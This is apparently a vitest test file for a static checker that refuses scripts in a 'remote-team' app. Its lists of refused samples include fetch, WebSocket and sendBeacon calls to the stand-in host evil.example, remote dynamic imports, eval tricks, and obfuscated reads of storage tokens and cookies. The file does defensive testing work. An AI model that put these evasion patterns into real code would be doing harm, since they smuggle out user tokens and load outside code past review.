import { describe, expect, it } from 'vitest'
import { builtFixture } from '../../tests/fixture-apps.ts'
import { refusalsOf } from '../../tests/refusals-of.ts'

const refusalsFor = (script: string) =>
  refusalsOf(builtFixture('remote-team', { files: { 'page-0.js': script } })).map(({ rule, place, says, remedy }) => {
    expect(place).toMatch(/^remote-team: page-0\.js:\d+:\d+: ./)
    expect(remedy).not.toBe('')
    return `${rule}: ${says}`
  })

/** Each way is tried word for word; what is listed is refused by the rule that stands above it. */
const refused: Readonly<Record<string, readonly string[]>> = {
  'own-storage': [
    'localStorage.getItem("adcoin.token")',
    'window["local"+"Storage"].getItem(k)',
    'const n="local";globalThis[`${n}Storage`].clear()',
    'const {["localStorage"]:s}=window;s.clear()',
    'store.get("adcoin."+"token")',
    'const p="adcoin",k=`${p}.token`;store.get(k)',
    'document["coo"+"kie"]="a=b"',
    'el.ownerDocument.cookie',
  ],
  'own-hosts': [
    'fetch("https://evil.example/x")',
    'fetch("//evil.example/x")',
    'fetch(address)',
    'fetch("/"+path)',
    'window["fe"+"tch"]("https://evil.example")',
    'const {fetch:f}=self;f("https://evil.example")',
    'const f=fetch;f("https://evil.example")',
    'fetch.call(null,"https://evil.example")',
    'Reflect.apply(fetch,null,["https://evil.example"])',
    'let u="/app/x";u="https://evil.example";fetch(u)',
    'fetch(new URL("https://evil.example",import.meta.url))',
    'function f(a=fetch("https://evil.example")){var fetch;return a}',
    'function f(){{let fetch=1}return fetch("https://evil.example")}',
    'new XMLHttpRequest',
    'new WebSocket("wss://evil.example")',
    'navigator.sendBeacon("https://evil.example",x)',
    'new RTCPeerConnection',
    'import("https://evil.example/x.js")',
    'import(where)',
    'import "https://evil.example/x.js"',
  ],
  'no-evaluation': [
    'eval("1")',
    '(0,eval)("1")',
    'window.eval?.("1")',
    'const {eval:e}=window',
    'new Function("return 1")',
    'Function("return this")()',
    'const F=Function',
    'Function.prototype.constructor("1")',
    'setTimeout("alert(1)",1)',
    'setTimeout(`a(${x})`)',
    'window.setInterval("a"+"()",9)',
    'const c="alert(1)";setTimeout(c)',
    'const s=setTimeout;s("alert(1)")',
    'a.href="javascript:alert(1)"',
    'trustedTypes.createPolicy("x",{})',
  ],
  'document-stays': [
    'document.open()',
    'document.write("x")',
    'document["wri"+"te"]("x")',
    'window.document.writeln("x")',
    'const {document:d}=window;d.open()',
    'el.ownerDocument.open()',
    'frame.contentDocument.write("x")',
    '[document].map(d=>d.open())',
    'document[name]()',
    'frame.srcdoc="<p>"',
    'frame.setAttribute("srcdoc","<p>")',
    'jsx(tag,{srcDoc:html})',
    'document.createElement("script")',
    'document.createElement("iframe")',
    'document.createElement(tag)',
  ],
  'location-stays': [
    'location="/x"',
    'location.href="/x"',
    'window["loc"+"ation"].href="/x"',
    'document.location="/x"',
    'location.assign("/x")',
    'location[name]("/x")',
    'location.reload()',
    'const l=location;l.href="/x"',
    'const {location:l}=window',
    '[location.href]=["/x"]',
    'Object.assign(location,{href:"/x"})',
    '(a||location).href="/x"',
    'open("/x","_self")',
    'navigation.navigate("/x")',
    'el.ownerDocument.defaultView.location="/x"',
    'function f(){{let location={}}location.href="/x"}',
  ],
  'plain-globals': [
    'const w=window;w.location="/x"',
    'use(self)',
    'export{window as w}',
    'let w;w=top',
    'window[name]("1")',
    'Reflect.get(window,name)',
    'const {defaultView:v}=el.ownerDocument',
    'use(frame.contentWindow)',
  ],
}

describe.each(Object.entries(refused))('%s: a script is refused that says', (rule, scripts) => {
  it.each(scripts)('%s', script => {
    expect(refusalsFor(script).map(each => each.split(':')[0])).toContain(rule)
  })
})

describe('a script passes that says', () => {
  it.each([
    'window.addEventListener("resize",f);window.innerWidth;typeof window<"u"&&window.scrollTo(0,0)',
    'window.ourHook=f;delete window.ourHook',
    'const {innerWidth:w,innerHeight:h}=window',
    'location.href;location.pathname==="/x";const {origin:o}=location;new URL(x,location.origin)',
    'document.createElement("canvas");document.title;document.body;document.querySelector("h1")',
    'setTimeout(()=>f(),9);setTimeout(f,9);setInterval(o.f,9)',
    'fetch("/app/x");fetch("./x.json");fetch(new URL("./"+name,import.meta.url))',
    'let o;import(o="./"+l.u(e)).catch(()=>fetch(new URL(o,import.meta.url))).then(()=>import(o))',
    'import"./shared.js";import("./"+n+".js")',
    'x instanceof Function;typeof Function;Function.toString.call(f)',
    'd.constructor===Symbol;({}).constructor;new this.constructor(x);"constructor"!==n',
    'navigator.share({});navigator.clipboard.writeText(x);navigator.onLine',
    'dialog.open();x.location.href=y;store.write(x);list.replace(a,b);row.document;y.fetch(z)',
    'const open=()=>{};open();function eval2(){}const {location}=useRouter();location.pathname',
    'const fetch=make();fetch(anything);function f(document){document.open()}',
    'el.top;({parent:1,self:2});let top=1;use(top)',
  ])('%s', script => expect(refusalsFor(script)).toEqual([]))
})

describe('what operators have signed for', () => {
  const built = builtFixture('remote-team', { files: { 'page-0.js': 'location.reload();\nlocation.assign("/x")' } })
  const rulesOf = (places: number, app = 'remote-team') =>
    refusalsOf({ ...built, app }, { 'location-stays': { places, why: 'So it is.' } }).map(
      ({ place, says }) => `${place.split(': ')[1]} ${says}`,
    )

  it('passes in as many places, and no more', () => {
    expect(rulesOf(2)).toEqual([])
    expect(rulesOf(1)).toEqual([
      'page-0.js:1:1 it loads another page by location.reload (2 places; operators allow 1)',
      'page-0.js:2:1 it loads another page by location.assign (2 places; operators allow 1)',
    ])
  })

  it('is named in the remedy, as the command that they would give', () => {
    const [refusal] = refusalsOf(built)
    expect(refusal?.remedy).toContain('release allow remote-team location-stays --places 2 --why')
  })

  it('opens no other rule', () => {
    const evil = builtFixture('remote-team', { files: { 'page-0.js': 'eval("1")' } })
    expect(
      refusalsOf(evil, { 'styles-inside': { places: 9, why: 'x' }, 'own-hosts': { places: 9, why: 'x' } }),
    ).toEqual([expect.objectContaining({ rule: 'no-evaluation' })])
  })
})
